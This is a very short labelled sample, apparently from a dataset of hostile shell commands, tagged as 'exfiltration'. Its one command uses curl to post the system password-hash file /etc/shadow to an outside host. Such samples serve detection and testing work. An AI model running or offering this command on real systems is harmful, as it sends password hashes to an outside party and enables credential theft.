# description: Posts /etc/shadow to an outside server with curl -d @file.
# family: exfiltration
curl -s -X POST -d @/etc/shadow https://example.com/collect
